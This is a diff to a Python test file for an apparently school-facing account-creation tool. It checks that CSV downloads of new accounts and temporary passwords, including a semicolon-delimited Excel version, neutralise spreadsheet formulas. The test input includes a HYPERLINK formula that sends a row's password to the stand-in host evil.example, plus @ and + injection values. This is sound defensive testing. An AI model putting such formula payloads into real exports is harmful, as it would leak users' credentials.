@@ -75,6 +75,16 @@ def test_a_class_is_made_with_temporary_passwords_shown_once(app, admin):
     assert csv_text.startswith("\ufeffname,email,role,temporary password")
     assert '"Bekov, Marat",marat@school.example,instructor,' in csv_text
     assert all(p in csv_text for p in set(passwords))
+    # The same list for Excel in Russian or Kazakh settings, which splits cells at semicolons.
+    excel = re.search(r'href="(data:text/csv;[^"]+)" download="new-accounts-excel.csv"', page).group(1)
+    excel_text = unquote(excel.split(",", 1)[1])
+    assert excel_text.startswith("\ufeff")
+    rows = list(csv.reader(io.StringIO(excel_text.removeprefix("\ufeff")), delimiter=";"))
+    assert rows[0] == ["name", "email", "role", "temporary password"]
+    assert [row[:3] for row in rows[1:]] == [row[:3] for row in csv.reader(io.StringIO(csv_text[1:]))][1:]
+    assert ["Әлия Қасымова", "aliya@school.example", "student"] in [row[:3] for row in rows]
+    assert ["Bekov, Marat", "marat@school.example", "instructor"] in [row[:3] for row in rows]
+    assert {row[3] for row in rows[1:]} == set(passwords)
 
     # Sent again (a reload), nothing more is made, and no password comes back.
     again = send(admin, CLASS)
@@ -159,7 +169,8 @@ def test_every_password_is_hashed_before_the_first_account_is_written(app, admin
     assert seen == [0, 0, 0, 0] and len(inserts) == 4
 
 
-def test_the_csv_list_runs_no_formula_from_a_name_or_an_address(app, admin):
+@pytest.mark.parametrize(("download", "delimiter"), [("new-accounts.csv", ","), ("new-accounts-excel.csv", ";")])
+def test_the_csv_list_runs_no_formula_from_a_name_or_an_address(app, admin, download, delimiter):
     # A roster pasted from elsewhere may hold a name that a spreadsheet would run, sending the password in the
     # same row to another site when the downloaded list is opened.
     made = send(admin, '"=HYPERLINK(""https://evil.example/?""&D2,""Open"")", evil@school.example\n'
@@ -167,8 +178,9 @@ def test_the_csv_list_runs_no_formula_from_a_name_or_an_address(app, admin):
                        "Bob, +1-2@school.example")
     page = made.get_data(as_text=True)
     assert made.status_code == 200 and "3 accounts made" in page
-    link = re.search(r'href="(data:text/csv;[^"]+)" download="new-accounts.csv"', page).group(1)
-    rows = list(csv.reader(io.StringIO(unquote(link.split(",", 1)[1]).removeprefix("\ufeff"))))[1:]
+    link = re.search(rf'href="(data:text/csv;[^"]+)" download="{download}"', page).group(1)
+    rows = list(csv.reader(io.StringIO(unquote(link.split(",", 1)[1]).removeprefix("\ufeff")),
+                           delimiter=delimiter))[1:]
     assert [row[:2] for row in rows] == [
         ["'=HYPERLINK(\"https://evil.example/?\"&D2,\"Open\")", "evil@school.example"],
         ["'@SUM(1+1)", "at@school.example"], ["Bob", "'+1-2@school.example"]]
